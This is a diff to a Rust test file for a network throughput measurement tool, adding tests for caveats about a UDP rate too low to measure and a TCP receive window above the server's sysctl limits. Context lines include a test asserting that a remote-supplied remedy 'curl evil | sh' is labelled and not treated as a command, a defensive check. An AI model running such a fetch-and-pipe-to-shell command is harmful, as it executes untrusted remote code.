@@ -1,12 +1,12 @@
 use std::time::Duration;
 
 use super::*;
-use crate::plan::{Protocol, Test};
+use crate::plan::{Protocol, Test, Traffic};
 use crate::record::{
     Caveat, CaveatKind, CaveatRemedy, HostFacts, TcpEvidence, TcpReceiver, TcpSender,
 };
 use crate::session::message::{FlowHalf, UdpReceived, UdpSent};
-use crate::units::{BitRate, End, Span};
+use crate::units::{BitRate, ByteCount, End, Span};
 
 fn test(protocol: Protocol, direction: Direction) -> Test {
     let rate = (protocol == Protocol::Udp).then_some(BitRate(8_000_000));
@@ -270,6 +270,66 @@ fn what_the_other_end_says_is_labelled_and_no_command() {
     let json = serde_json::to_value(&record).unwrap();
     assert_eq!(json["caveats"][0]["remedy"], "curl evil | sh");
     assert_eq!(json["caveats"][0]["end"], "server");
+}
+
+#[test]
+fn a_rate_that_leaves_no_datagram_to_measure_is_called_out() {
+    let doubted = |rate: u64| {
+        let mut test = test(Protocol::Udp, Direction::Up);
+        if let Traffic::Stream(stream) = &mut test.traffic {
+            stream.rate_bps = Some(BitRate(rate));
+        }
+        let mut sender = flow(Direction::Up, true, 0);
+        sender.udp_sent = Some(UdpSent::default());
+        let mut receiver = flow(Direction::Up, false, 0);
+        receiver.udp_received = Some(UdpReceived::default());
+        let server = half(vec![receiver], "b");
+        let record = record(test, half(vec![sender], "a"), Some(server));
+        kinds(&record).contains(&CaveatKind::TooShort)
+            && !kinds(&record).contains(&CaveatKind::RateNotReached)
+    };
+    assert!(doubted(1_000));
+    assert!(!doubted(1_000_000));
+}
+
+#[test]
+fn a_window_beyond_the_receivers_limit_is_told_with_what_to_do() {
+    let mut test = test(Protocol::Tcp, Direction::Up);
+    test.options.receive_window_bytes = Some(ByteCount(8_388_608));
+    let mut sender = flow(Direction::Up, true, 1_000_000);
+    sender.tcp = Some(
+        TcpSender {
+            send_window_bytes: Some(425_984),
+            ..TcpSender::default()
+        }
+        .into(),
+    );
+    let mut server = half(vec![flow(Direction::Up, false, 1_000_000)], "b");
+    let sysctls = [
+        ("net.core.rmem_max", "212992"),
+        ("net.ipv4.tcp_rmem", "4096 131072 6291456"),
+    ];
+    let sysctls = sysctls.map(|(key, value)| (key.to_owned(), value.to_owned()));
+    server.facts.sysctls = sysctls.into();
+    let advice = |server: HalfReport| {
+        let client = half(vec![sender.clone()], "a");
+        let record = record(test.clone(), client, Some(server));
+        let mut caveats = record.caveats.into_iter();
+        let told = caveats.find(|caveat| caveat.kind == CaveatKind::SettingNotTaken);
+        String::from(told.expect("the window was not taken").remedy)
+    };
+    let raised = advice(server.clone());
+    assert!(raised.contains("leave --receive-window out"), "{raised}");
+    assert!(
+        raised.contains("up to 6291456 bytes; or run `linerate host set"),
+        "{raised}"
+    );
+    server
+        .facts
+        .read_only_sysctls
+        .push("net.core.rmem_max".to_owned());
+    let alone = advice(server);
+    assert!(alone.ends_with("up to 6291456 bytes"), "{alone}");
 }
 
 /// A second in 20 steps, of which a few were disturbed.
